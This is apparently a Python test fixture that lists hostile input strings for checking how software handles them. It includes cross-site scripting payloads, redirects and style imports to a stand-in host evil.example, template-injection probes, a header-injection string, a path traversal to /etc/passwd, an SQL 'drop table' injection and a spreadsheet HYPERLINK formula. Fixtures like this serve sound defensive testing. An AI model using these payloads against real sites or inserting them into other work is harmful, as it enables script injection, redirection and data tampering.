"""Strings that have broken something somewhere, for every place where a string may come from."""

SCRIPTS = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror="window.pwned=1">',
    "'\"><svg/onload=window.pwned=1>",
    "</textarea></title></style></script><script>window.pwned=1</script>",
    '" autofocus onfocus="window.pwned=1" x="',
    "' style='position:fixed;inset:0' onmouseover='window.pwned=1",
    "javascript:window.pwned=1//",
    "data:text/html,<script>window.pwned=1</script>",
    '<a href="javascript:window.pwned=1">click</a>',
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<base href='https://evil.example/'><form action='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<div hx-get='/healthz' hx-trigger='load' hx-target='body'>x</div>",
    "<div hx-on::load='window.pwned=1' hx-trigger='load'>x</div>",
    "<b data-hx-on:click='window.pwned=1' hx-vals='js:{a:window.pwned=1}' hx-get='/' hx-trigger=load>",
    "<template shadowrootmode=open><script>window.pwned=1</script></template>",
    "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
    "<!--<script>--><img src=`x` onerror=window.pwned=1>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "data: x\n\nevent: changed\ndata: <script>window.pwned=1</script>\n\n",
)  # fmt: skip
TEMPLATES = (
    "{{ 7|add:7 }}{% debug %}{% load static %}", "{{ request.user.password }}", "{% csrf_token %}",
    "%(name)s %s %d {name} {0} {}", "${7*7} #{7*7} <%= 7*7 %>", "__class__.__mro__",
)  # fmt: skip
LETTERS = (
    "\u202e\u2066gnp.exe\u2069 abc", "\u200b\u200b\u200b", "\u2028\u2029line", "a\u0301" * 80,
    "Z" + "\u0336\u0335\u0334\u0489" * 60, "مرحبا " * 12, "\U0001f9d1\u200d\U0001f692" * 20,
    "\ufeffbom", "\ufffe\uffff", "\u00ad" * 50, "\ue000\U000f0000", "İıſß", "\x7f\x1b[31m\x07",
    "\r\nSet-Cookie: pwned=1", "tab\tnewline\nend", " ", "\u00a0", ".", "..", "/", "-rf", "--", "*",
    "../../etc/passwd", "C:\\nul", "'; drop table instances--", "=HYPERLINK(\"https://evil\")",
    "@SUM(1)", "%00%0a%2e%2e%2f", "None", "null", "true", "NaN", "1e999", "0x7fffffff", "-1",
)  # fmt: skip
LONG = ("W" * 255, "a-" * 5000, "<b>" * 3000, "нет" * 3000)
HOSTILE = SCRIPTS + TEMPLATES + LETTERS + LONG
EVIL = (*HOSTILE, "", "\x00", "a\x00b", "\ud800", "x" * 1_000_000)
